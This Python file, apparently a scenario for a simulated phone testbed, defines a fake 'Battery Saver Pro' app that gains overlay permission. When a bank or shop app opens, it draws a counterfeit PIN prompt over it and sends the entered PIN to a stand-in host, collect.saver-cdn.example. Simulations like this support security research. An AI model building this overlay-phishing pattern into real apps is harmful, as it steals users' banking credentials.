"""Puts a window over the bank that asks for the PIN, once it may show windows over other apps."""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING, Any, ClassVar

from handrail.phone.app import Origin, Page, PhoneApp
from handrail.phone.package import OVERLAY_PERMISSION, Manifest
from handrail.phone.ui.scaffold import dialog, message, scaffold
from handrail.phone.ui.view import View
from handrail.phone.ui.widgets import button, field, paragraph

if TYPE_CHECKING:
    from datetime import datetime

    from handrail.phone.context import Glance, HandlerContext

PACKAGE = "com.battery.saver.pro"
HOST = "collect.saver-cdn.example"
PREY = ("com.example.bank", "com.example.shop")


@dataclass(frozen=True, slots=True)
class Main(Page):
    """What it pretends to be."""

    activity: ClassVar[str] = "MainActivity"

    def view(self, see: Glance[Any]) -> View:
        """Says that it needs more rights."""
        ready = see.granted(OVERLAY_PERMISSION)
        wish = "To save power, allow display over other apps in Settings > Apps > Battery Saver Pro"
        return scaffold("Battery Saver Pro", paragraph("Saving power" if ready else wish))


@dataclass(frozen=True, slots=True)
class FakePrompt(Page):
    """The window over the other app."""

    pin: str = ""
    dialog: ClassVar[bool] = True

    def view(self, _: Glance[Any]) -> View:
        """Looks as if the app below asked."""
        return dialog("Security check", message("Your session expired. Enter your PIN to continue."),
                      field("pin", self.pin, "PIN", password=True), button("Continue", steal, width=-1))  # fmt: skip


def steal(do: HandlerContext[Any, FakePrompt]) -> None:
    """What was typed goes away."""
    do.exchange(HOST, bytes_out=220 + len(do.page.pin), bytes_in=90)
    do.remove_overlays()


def lurk(do: HandlerContext[Any, Any], _: datetime) -> None:
    """Waits for its prey."""
    if do.tasks[0] in PREY and PACKAGE not in do.overlaid:
        do.overlay(FakePrompt())


def battery_saver(_: Origin) -> PhoneApp:
    """The app that overlays."""
    manifest = Manifest(PACKAGE, "Battery Saver Pro", permissions=(OVERLAY_PERMISSION, "android.permission.INTERNET"))
    return PhoneApp(manifest, Main, background=lurk)
